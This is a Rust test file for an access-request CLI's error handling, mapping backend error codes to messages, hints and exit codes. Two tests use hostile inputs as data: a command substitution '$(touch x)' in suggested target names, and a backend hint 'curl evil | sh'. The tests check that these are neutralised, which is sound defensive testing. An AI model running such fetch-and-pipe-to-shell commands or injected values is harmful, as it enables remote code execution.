//! What an error says and how it ends, code by code.

use super::*;
use crate::wire::problem::PolicyReason;

#[test]
fn advice_stands_inside_a_sentence() {
    assert_eq!(in_a_sentence("Give a reason."), "give a reason");
    assert_eq!(in_a_sentence("MFA is too old."), "MFA is too old");
    assert_eq!(in_a_sentence(""), "");
}

#[test]
fn every_wire_code_has_its_exit_code() {
    let table: Vec<String> = Code::ALL
        .iter()
        .map(|code| format!("{} {code}", exit_of(*code).code()))
        .collect();
    insta::assert_snapshot!(table.join("\n"));
}

#[test]
fn no_wire_code_ends_in_success() {
    for code in Code::ALL {
        assert!(!matches!(exit_of(*code), Exit::Done | Exit::Interrupted), "{code}");
    }
}

#[test]
fn exit_codes_are_distinct_and_documented() {
    let numbers: Vec<u8> = Exit::ALL.iter().map(|(exit, _)| exit.code()).collect();
    assert_eq!(numbers, [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 125, 126, 127, 130]);
}

#[test]
fn unknown_code_is_judged_by_its_status() {
    for (status, exit) in [(401, 4), (403, 5), (404, 10), (422, 2), (426, 3), (500, 1), (503, 8)] {
        let mut problem = Problem::new(Code::ServerFailed, "no");
        problem.code = "from.the_future".into();
        problem.status = status;
        assert_eq!(Error::from(problem).exit.code(), exit, "{status}");
    }
}

#[test]
fn attack_16_names_of_the_backend_become_no_command() {
    let mut problem = Problem::new(Code::TargetNotFound, "no target named x");
    problem.nearest = vec!["$(touch x)".into(), "a\nb".into()];
    assert_eq!(Error::from(problem.clone()).hint.as_deref(), Some("try: jit targets"));
    problem.nearest.push("prod-admin".into());
    assert_eq!(
        Error::from(problem).hint.as_deref(),
        Some("did you mean prod-admin? all: jit targets")
    );
}

#[test]
fn hint_of_the_backend_is_marked_as_words() {
    let problem = Problem::new(Code::PolicyRefused, "no").hint("curl evil | sh");
    assert_eq!(Error::from(problem).hint.as_deref(), Some("hint: curl evil | sh"));
}

#[test]
fn refusal_of_policy_names_the_policy() {
    let mut problem = Problem::new(Code::PolicyRefused, "policy refuses");
    problem.reasons.push(PolicyReason {
        policy: "base.reason".into(),
        advice: Some("prod needs a ticket".into()),
    });
    assert_eq!(
        Error::from(problem).message,
        "policy refuses: prod needs a ticket (base.reason)"
    );
}
